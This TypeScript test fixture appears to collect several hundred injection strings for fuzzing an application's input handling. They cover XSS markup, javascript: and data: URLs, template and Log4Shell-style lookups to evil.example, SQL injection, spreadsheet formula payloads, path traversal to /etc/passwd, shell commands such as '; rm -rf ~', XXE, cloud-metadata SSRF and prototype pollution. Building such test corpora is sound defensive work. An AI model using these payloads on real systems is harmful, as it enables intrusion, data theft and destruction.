/** Every script of the corpus sets this; a page where it is set has run one. */
const RUN = 'globalThis.injected=1'

/** Ways out of where a text may have been put. */
const BREAKOUTS = [
  '',
  '">',
  "'>",
  '</title>',
  '</script>',
  '</textarea>',
  '</style>',
  '-->',
  ']]>',
  '"}]}</script>',
  '`}',
  '\u2028',
]

/** Marked, so that a page can be searched for what should have stayed text. */
const MARKUP = [
  `<script data-injected>${RUN}</script>`,
  `<ScRiPt data-injected>${RUN}</sCrIpT >`,
  `<script data-injected src="data:text/javascript,${RUN}"></script>`,
  `<img data-injected src=x onerror=${RUN}>`,
  `<img data-injected src=x onerror="${RUN}"/>`,
  `<img/data-injected/src/onerror=${RUN}>`,
  `<body data-injected onload=${RUN}>`,
  `<input data-injected autofocus onfocus=${RUN}>`,
  `<details data-injected open ontoggle=${RUN}>`,
  `<video data-injected><source onerror=${RUN}></video>`,
  `<audio data-injected src=x onerror=${RUN}>`,
  `<marquee data-injected onstart=${RUN}>`,
  `<div data-injected onpointerover=${RUN} style=position:fixed;inset:0>x</div>`,
  `<svg data-injected onload=${RUN}>`,
  `<svg data-injected><script>${RUN}</script></svg>`,
  `<svg data-injected><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg data-injected><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
  `<math data-injected><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<iframe data-injected srcdoc="<script>parent.injected=1</script>"></iframe>`,
  `<iframe data-injected src="javascript:parent.injected=1"></iframe>`,
  `<object data-injected data="javascript:${RUN}"></object>`,
  `<embed data-injected src="data:text/html,<script>${RUN}</script>">`,
  `<a data-injected href="javascript:${RUN}">here</a>`,
  `<form data-injected action="javascript:${RUN}"><button>Go</button></form>`,
  `<base data-injected href="https://evil.example/">`,
  `<meta data-injected http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<link data-injected rel="stylesheet" href="https://evil.example/x.css">`,
  `<style data-injected>@import"https://evil.example/x.css"</style>`,
  `<template data-injected><script>${RUN}</script></template>`,
  `<noscript><p data-injected title="</noscript><img src=x onerror=${RUN}>">`,
  `&lt;script data-injected&gt;${RUN}&lt;/script&gt;`,
  `&#60;img data-injected src=x onerror=${RUN}&#62;`,
]

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript:${RUN}//https://example.org/a.jpg`,
  `javascript://example.org/%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5nbG9iYWxUaGlzLmluamVjdGVkPTE8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  `vbscript:msgbox(1)`,
  `blob:null/${RUN}`,
  `file:///etc/passwd`,
  `//evil.example/x.js`,
  `\\\\evil.example\\x.js`,
  `https:evil.example`,
  `http://127.0.0.1:22/`,
  `http://169.254.169.254/latest/meta-data/`,
  `http://[::1]:5432/`,
  `https://example.org/" onerror="${RUN}`,
  `https://example.org/'onerror='${RUN}`,
  `https://example.org/a.jpg#<script>${RUN}</script>`,
  `https://user:pass@evil.example/`,
]

const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`,
  `{{7*7}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `{% raw %}{{7*7}}{% endraw %}`,
  `[[\${7*7}]]`,
  `@{${RUN}}`,
  `\${jndi:ldap://evil.example/a}`,
  `$&$\`$'$1$$`,
  `%s%s%n%x`,
  `{0}{1}{2}`,
  `:{id}`,
  `__CSP_NONCE__`,
  `__ACTING_USER__`,
  `<!--page-state-->`,
  `<!--page-head--><script>${RUN}</script><!--/page-head-->`,
]

const SQL = [
  `' or '1'='1`,
  `'; drop table users; --`,
  `" or ""="`,
  `1; select pg_sleep(10)`,
  `1 union select null, version(), null`,
  `') or 1=1 --`,
  `\\'; truncate posts; --`,
  `$$; drop table plots; $$`,
  `%' and 1=(select count(*) from users) and '%'='`,
  `'||(select current_user)||'`,
  `E'\\x27'`,
  `/**/union/**/select/**/1`,
  `_%_%_%`,
  `\\%\\_`,
  `a & b | !c <-> d:*`,
  `'''':*A & ((((`,
  `NaN`,
  `1e400`,
  `9223372036854775808`,
  `-0`,
  `null`,
  `undefined`,
  `[object Object]`,
]

const FILES_AND_LINES = [
  `=cmd|'/c calc'!A1`,
  `+cmd|'/c calc'!A1`,
  `-2+3+cmd|'/c calc'!A1`,
  `@SUM(1+1)*cmd|'/c calc'!A1`,
  `=HYPERLINK("https://evil.example","here")`,
  `a\nBEGIN:VEVENT\nSUMMARY:injected\nEND:VEVENT`,
  `a;ATTENDEE:mailto:evil@evil.example`,
  `a\\nDTSTART:19700101`,
  `END:VCALENDAR`,
  `a\r\nSet-Cookie: injected=1`,
  `a\r\n\r\n<script>${RUN}</script>`,
  `a%0d%0aSet-Cookie:%20injected=1`,
  `a\u560a\u560dSet-Cookie: injected=1`,
  `../../../../etc/passwd`,
  `..\\..\\..\\windows\\win.ini`,
  `%2e%2e%2f%2e%2e%2fetc%2fpasswd`,
  `%252e%252e%252fetc%252fpasswd`,
  `....//....//etc/passwd`,
  `/etc/passwd`,
  `C:\\windows\\win.ini`,
  `file.jpg.exe`,
  `file.php\u0000.jpg`,
  `CON`,
  `.htaccess`,
  `a"; filename="evil.html`,
  `evil.html;jpg`,
  `; rm -rf ~`,
  `$(touch injected)`,
  '`touch injected`',
  `| cat /etc/passwd`,
]

const CHARACTERS = [
  '\u0000',
  'a\u0000b',
  '\u0008\u0008\u0008',
  '\u001b[31mred\u001b[0m',
  '\u007f',
  '\u0085',
  '\u202egnp.exe',
  '\u202dabc\u202c',
  '\u2066<script>\u2069',
  'admin\u200b',
  '\u200d\u200d\u200d',
  '\ufeffbom',
  '\ufffe',
  '\ud800',
  '\udc00\ud800',
  '＜script＞globalThis.injected=1＜/script＞',
  '\u02bb\u02bcquoted\u02bd',
  'ﬀﬁﬂ İı ẞß',
  'Z\u0351\u036b\u0343\u032aa\u0317\u030alg\u0329o',
  '👩‍👩‍👧‍👦'.repeat(20),
  '\u0301'.repeat(100),
  '(╯°□°）╯︵ ┻━┻',
  'ʇsǝʇ',
  'العربية עברית',
  '𝒔𝒄𝒓𝒊𝒑𝒕',
  '\u2028\u2029',
  'a\u00a0b\u3000c',
]

const OBJECTS = [
  `{"__proto__":{"injected":1}}`,
  `{"constructor":{"prototype":{"injected":1}}}`,
  `__proto__`,
  `constructor`,
  `toString`,
  `hasOwnProperty`,
  `"}],"injected":[{"a":"`,
  `\\"},{\\"injected\\":1`,
  `{"$gt":""}`,
  `[]`,
  `true`,
  `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`,
  `*)(uid=*))(|(uid=*`,
  `O:8:"stdClass":0:{}`,
  `!!js/function 'function(){${RUN}}'`,
]

/** At least 500 texts that have broken programs before, by what they try. */
export const INJECTION_FAMILIES = {
  markup: BREAKOUTS.flatMap((breakout) => MARKUP.map((markup) => breakout + markup)),
  addresses: ADDRESSES,
  templates: TEMPLATES,
  sql: SQL,
  filesAndLines: FILES_AND_LINES,
  characters: CHARACTERS,
  objects: OBJECTS,
}

export const INJECTION_STRINGS: string[] = Object.values(INJECTION_FAMILIES).flat()

// biome-ignore lint/suspicious/noControlCharactersInRegex: texts that hold them are refused everywhere
const CONTROL_CHARACTERS = /[\u0000-\u0008\u000b-\u001f\u007f]/

export const REFUSED_STRINGS = INJECTION_STRINGS.filter((text) => CONTROL_CHARACTERS.test(text))

/** All that can be stored, in as few texts of some length as hold them. */
export function packInjections(longest: number): string[] {
  const packs = ['']
  for (const text of INJECTION_STRINGS) {
    if (CONTROL_CHARACTERS.test(text) || text.length > longest) continue
    const pack = `${packs.at(-1)} ${text}`.trim().toWellFormed()
    if (pack.length > longest) packs.push(text.trim().toWellFormed())
    else packs[packs.length - 1] = pack
  }
  return packs
}
